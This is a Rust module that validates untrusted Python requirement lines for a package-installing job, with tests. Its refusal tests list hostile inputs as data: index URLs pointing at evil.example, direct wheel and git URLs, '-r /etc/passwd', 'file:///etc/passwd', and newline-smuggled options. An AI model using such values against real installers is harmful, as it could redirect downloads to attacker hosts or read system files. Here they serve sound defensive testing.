//! Requirements as a stranger wrote them, checked line by line before any tool reads them.
//!
//! Taken is what PEP 508 calls a name-based requirement: a name, extras, version specifiers and a
//! marker. Everything else that a requirements file may hold, such as options, paths and addresses,
//! would let a stranger choose what this machine reads and from where.

/// A job may name at most this many packages.
pub const LINES_MAX: usize = 50;

/// Characters of one requirement.
pub const LINE_MAX: usize = 200;

/// Why requirements are refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum RequirementsError {
    #[error("{found} requirements are more than {LINES_MAX}")]
    TooMany { found: usize },
    #[error("a requirement of {found} characters is longer than {LINE_MAX}")]
    TooLong { found: usize },
    #[error(
        "'{line}' is not a package name with an optional version, such as 'numpy' or \
         'scikit-learn>=1.4,<2'; addresses, paths and options are not taken"
    )]
    NotAName { line: String },
}

/// Checked requirements, one a line, without blank lines; at least none.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Requirements {
    text: String,
}

impl Requirements {
    /// Checks all lines; blank ones are passed over.
    ///
    /// # Errors
    ///
    /// All of [`RequirementsError`].
    pub fn check(lines: &[String]) -> Result<Self, RequirementsError> {
        let lines: Vec<&str> =
            lines.iter().map(|line| line.trim()).filter(|line| !line.is_empty()).collect();
        if lines.len() > LINES_MAX {
            return Err(RequirementsError::TooMany { found: lines.len() });
        }
        let mut text = String::new();
        for line in lines {
            let found = line.chars().count();
            if found > LINE_MAX {
                return Err(RequirementsError::TooLong { found });
            }
            if !is_requirement(line) {
                let line = line.chars().filter(|c| !c.is_control()).collect();
                return Err(RequirementsError::NotAName { line });
            }
            text.push_str(line);
            text.push('\n');
        }
        Ok(Self { text })
    }

    /// One requirement a line.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Number of requirements.
    pub fn len(&self) -> usize {
        self.text.lines().count()
    }

    /// Whether nothing is required, so that no environment is needed.
    pub fn is_empty(&self) -> bool {
        self.text.is_empty()
    }
}

fn is_requirement(line: &str) -> bool {
    let (line, marker) = match line.split_once(';') {
        Some((line, marker)) => (line, Some(marker)),
        None => (line, None),
    };
    let end = line.find(|c| !is_name_char(c)).unwrap_or(line.len());
    let (name, rest) = line.split_at(end);
    let Some(rest) = without_extras(rest.trim()) else { return false };
    is_name(name) && are_specifiers(rest.trim()) && marker.is_none_or(is_marker)
}

fn is_name_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-')
}

pub(super) fn is_name(name: &str) -> bool {
    let alphanumeric = |c: char| c.is_ascii_alphanumeric();
    name.chars().all(is_name_char) && name.starts_with(alphanumeric) && name.ends_with(alphanumeric)
}

/// What follows `[extra, other]`, or all of it if there are no extras.
pub(super) fn without_extras(rest: &str) -> Option<&str> {
    let Some(rest) = rest.strip_prefix('[') else { return Some(rest) };
    let (extras, rest) = rest.split_once(']')?;
    extras.split(',').all(|extra| is_name(extra.trim())).then_some(rest)
}

fn are_specifiers(rest: &str) -> bool {
    let rest = rest.strip_prefix('(').and_then(|inner| inner.strip_suffix(')')).unwrap_or(rest);
    rest.is_empty() || rest.split(',').all(|specifier| is_specifier(specifier.trim()))
}

fn is_specifier(specifier: &str) -> bool {
    let version = ["===", "==", "~=", "!=", "<=", ">=", "<", ">"]
        .iter()
        .find_map(|operator| specifier.strip_prefix(operator));
    let version_char =
        |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '*' | '+' | '!' | '-');
    version.map(str::trim).is_some_and(|version| {
        version.starts_with(|c: char| c.is_ascii_alphanumeric())
            && version.chars().all(version_char)
    })
}

/// A marker's grammar is left to uv; here only what could begin anything but a marker is refused.
pub(super) fn is_marker(marker: &str) -> bool {
    let plain = |c: char| c.is_ascii_alphanumeric() || " \"'()<>=!~._,+*-".contains(c);
    let marker = marker.trim();
    !marker.is_empty() && marker.chars().all(plain) && !marker.contains(" -")
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(line: &str) -> Result<Requirements, RequirementsError> {
        Requirements::check(&[line.to_owned()])
    }

    #[test]
    fn names_versions_extras_and_markers_are_taken() {
        for line in [
            "numpy",
            "scikit-learn>=1.4,<2",
            "zope.interface == 6.*",
            "requests[socks, use_chardet_on_py3] ~= 2.31",
            "torch (==2.1.0+cpu)",
            "tzdata; sys_platform == 'win32' and (python_version < \"3.12\")",
            "a===1!2.0-beta_1",
            "  padded  ",
            "uvloop ; platform_machine != 'x86-64'",
        ] {
            assert_eq!(check(line).map(|r| r.len()), Ok(1), "{line}");
        }
        assert!(check("  ").unwrap().is_empty());
    }

    #[test]
    fn whatever_else_a_requirements_file_may_hold_is_refused() {
        for line in [
            "-r /etc/passwd",
            "--index-url=http://evil.example/simple",
            "-e .",
            "numpy --index-url http://evil.example",
            "numpy; python_version > '3' --hash=sha256:00",
            "pkg @ http://evil.example/pkg.whl",
            "git+https://evil.example/x",
            "./wheel.whl",
            "/tmp/wheel.whl",
            "file:///etc/passwd",
            "C:\\wheel.whl",
            "numpy\n--index-url http://evil.example",
            "numpy\r-e .",
            "numpy # comment",
            "num py",
            "numpy==",
            "numpy==${HOME}",
            "numpy>=1 <2",
            "numpy[",
            "numpy[a b]",
            "numpy[]",
            "-numpy",
            "numpy-",
            "numpy;",
            "numpy==1\\",
            "nümpy",
            "numpy==-1",
        ] {
            assert!(check(line).is_err(), "{line}");
        }
    }

    #[test]
    fn number_and_length_are_limited() {
        let many = vec!["numpy".to_owned(); LINES_MAX + 1];
        assert_eq!(Requirements::check(&many), Err(RequirementsError::TooMany { found: 51 }));
        let long = "n".repeat(LINE_MAX + 1);
        assert_eq!(check(&long), Err(RequirementsError::TooLong { found: 201 }));
    }
}
